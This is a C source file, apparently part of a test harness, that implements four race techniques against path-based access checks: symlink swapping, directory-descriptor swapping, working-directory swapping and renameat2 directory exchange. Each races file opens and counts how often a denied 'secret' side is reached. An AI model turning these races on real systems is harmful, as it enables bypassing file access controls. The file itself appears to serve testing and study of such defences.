// SPDX-License-Identifier: Apache-2.0
/*
 * Names that stay while what they lead to changes: symbolic links, directory
 * descriptors, the working directory. A is the allowed side, B the denied.
 */
#define _GNU_SOURCE
#include "victim.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *side_a, *side_b, *link_path;
static int fd_a, fd_b, fd_used;

static void *swap_link(void *arg)
{
	char tmp[4096];

	(void)arg;
	snprintf(tmp, sizeof(tmp), "%s.next", link_path);
	for (int i = 0;; i++) {
		unlink(tmp);
		if (!symlink(i % 2 ? side_a : side_b, tmp))
			rename(tmp, link_path);
		moved();
		usleep(50);
	}
	return NULL;
}

static void *swap_fd(void *arg)
{
	(void)arg;
	for (;;) {
		dup2(fd_b, fd_used);
		moved();
		dup2(fd_a, fd_used);
	}
	return NULL;
}

static void *swap_cwd(void *arg)
{
	(void)arg;
	for (;;) {
		if (fchdir(fd_b))
			die("fchdir");
		moved();
		if (fchdir(fd_a))
			die("fchdir");
	}
	return NULL;
}

static int attempt(long n, int dirfd, const char *path)
{
	long i, opened = 0, reached = 0;

	for (i = 0; under_way(i, n); i++) {
		int fd = openat(dirfd, path, O_RDONLY);

		if (fd < 0)
			continue;
		opened++;
		reached += holds_secret(fd);
		close(fd);
	}
	printf("attempts=%ld opened=%ld reached=%ld\n", i, opened, reached);
	return 0;
}

static int directory(const char *path)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		die("open directory");
	return fd;
}

static int run_link(int argc, char **argv)
{
	if (argc < 5)
		return 64;
	link_path = argv[2];
	side_a = argv[3];
	side_b = argv[4];
	if (symlink(side_a, link_path))
		die("symlink");
	contested();
	spawn_thread(swap_link, NULL);
	return attempt(number(argv[1]), AT_FDCWD, link_path);
}

static int run_dirfd(int argc, char **argv)
{
	if (argc < 5)
		return 64;
	fd_a = directory(argv[2]);
	fd_b = directory(argv[3]);
	fd_used = dup(fd_a);
	contested();
	spawn_thread(swap_fd, NULL);
	return attempt(number(argv[1]), fd_used, argv[4]);
}

static int run_cwd(int argc, char **argv)
{
	if (argc < 5)
		return 64;
	fd_a = directory(argv[2]);
	fd_b = directory(argv[3]);
	if (fchdir(fd_a))
		die("fchdir");
	contested();
	spawn_thread(swap_cwd, NULL);
	return attempt(number(argv[1]), AT_FDCWD, argv[4]);
}

/* Two directories of one name, exchanged while the path through them opens. */
static void *exchange(void *arg)
{
	(void)arg;
	for (;;) {
		renameat2(AT_FDCWD, side_a, AT_FDCWD, side_b, 2);
		moved();
	}
	return NULL;
}

static int run_exchange(int argc, char **argv)
{
	char path[4096];

	if (argc < 5)
		return 64;
	side_a = argv[2];
	side_b = argv[3];
	snprintf(path, sizeof(path), "%s/%s", side_a, argv[4]);
	contested();
	spawn_thread(exchange, NULL);
	return attempt(number(argv[1]), AT_FDCWD, path);
}

const struct technique swap_techniques[] = {
	{ "swap-link", run_link, "N LINK A B" },
	{ "swap-dirfd", run_dirfd, "N DIR-A DIR-B NAME" },
	{ "swap-cwd", run_cwd, "N DIR-A DIR-B NAME" },
	{ "swap-exchange", run_exchange, "N DIR-A DIR-B NAME" },
	{ 0 },
};
